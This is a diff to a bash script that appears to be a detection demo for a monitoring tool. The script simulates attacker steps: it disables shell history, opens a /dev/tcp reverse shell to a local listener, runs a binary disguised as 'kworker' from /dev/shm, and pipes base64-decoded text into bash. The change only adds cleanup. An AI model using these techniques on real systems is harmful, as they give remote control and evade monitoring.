@@ -10,7 +10,9 @@
 set -u
 work=$1
 port=$2
+shm=
 unset HISTFILE
+trap 'rm -rf "$work" "$shm"' EXIT
 cd "$work" || exit 1
 
 step() {
@@ -26,10 +28,10 @@ step "gives a shell to 127.0.0.1:$port, where the demo listens (reverse shell)"
 setsid bash -c "bash --norc --noprofile -i >&/dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null
 
 step "runs a program from /dev/shm"
-shm=$(mktemp -d /dev/shm/sysflow-demo.XXXXXX)
-cp "$(command -v id)" "$shm/kworker"
-"$shm/kworker" >/dev/null 2>&1
-rm -rf "$shm"
+if shm=$(mktemp -d /dev/shm/sysflow-demo.XXXXXX); then
+  cp "$(command -v id)" "$shm/kworker"
+  "$shm/kworker" >/dev/null 2>&1
+fi
 
 step "runs what comes out of base64"
 bash -c "echo ZWNobyBub3RoaW5nIHRvIHNlZQ== | base64 -d | bash" >/dev/null
